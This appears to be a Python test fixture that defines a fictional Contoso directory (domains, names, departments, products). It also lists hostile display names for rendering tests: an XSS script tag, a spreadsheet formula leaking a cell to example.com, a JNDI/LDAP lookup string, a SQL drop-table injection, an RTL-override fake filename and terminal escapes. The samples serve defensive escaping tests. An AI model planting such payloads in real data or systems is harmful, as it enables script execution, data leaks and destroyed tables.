"""Names of the made-up company, and display names that try to break whatever shows them."""

from __future__ import annotations

DOMAIN = "contoso.example.com"
INITIAL_DOMAIN = "contoso.onmicrosoft.example"
PARTNER_DOMAIN = "fabrikam.example.net"
AD_DOMAIN = "corp.contoso.example.com"
AD_PATH = "DC=corp,DC=contoso,DC=example,DC=com"

FIRST_NAMES = (
    "Ada", "Ben", "Chiara", "Dmitri", "Elif", "Farid", "Greta", "Hiro", "Ines", "Jakub", "Kaja", "Liam",
    "Mira", "Noor", "Olga", "Pablo", "Quinn", "Rosa", "Sven", "Tara", "Umar", "Vera", "Wen", "Xenia",
    "Yusuf", "Zoë", "Anaïs", "Björn", "Čestmír", "Łucja",
)  # fmt: skip
LAST_NAMES = (
    "Abbott", "Bianchi", "Castro", "Dahl", "Eriksen", "Fischer", "Gruber", "Haddad", "Ivanova", "Jensen",
    "Kowalski", "Lindqvist", "Moreau", "Nakamura", "O'Neill", "Petrov", "Quist", "Rossi", "Sørensen", "Tanaka",
    "Urban", "Vogel", "Weber", "Xu", "Yilmaz", "Zeller", "Van der Berg", "Novák", "Müller", "D'Souza",
)  # fmt: skip
DEPARTMENTS = ("Sales", "Engineering", "Finance", "Legal", "Marketing", "Operations", "Support", "IT", None)
JOB_TITLES = ("Analyst", "Engineer", "Manager", "Assistant", "Director", "Consultant", None)
COUNTRIES = ("US", "DE", "FR", "GB", "IT", "SE", "JP", None)
PRODUCTS = (
    "Payroll", "Ledger", "Intranet", "Badge", "Fleet", "Survey", "Helpdesk", "Warehouse", "Invoice", "Archive",
    "Booking", "Telemetry", "Backup", "Catalog", "Translator",
)  # fmt: skip
PURPOSES = ("Connector", "Portal", "Sync", "Exporter", "Bot", "API", "Importer", "Monitor")
TEAMS = ("All Staff", "Project", "Readers", "Writers", "Leads", "On Call", "Alumni", "Approvers")

HOSTILE_NAMES = (
    "<script>alert('posture')</script>",
    '=HYPERLINK("https://example.com/?leak="&A1,"open me")',
    "[click](javascript:alert(1)) **bold** | cell | `code`",
    "invoice\u202efdp.exe",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07",
    "two\nlines\tand\ra\x08bell\x07",
    "N" * 256,
    "{{ 7*7 }}{% raw %} ${jndi:ldap://example.com/a}",
    "'; drop table users; --",
    "\u200bzero\u2060width \u0301\u0302\u0303stacked",
)
"""HTML, spreadsheet formula, markdown, right-to-left override, terminal escapes, control characters, length,
templates, SQL and invisible or stacked characters. No NUL: the directory refuses it."""
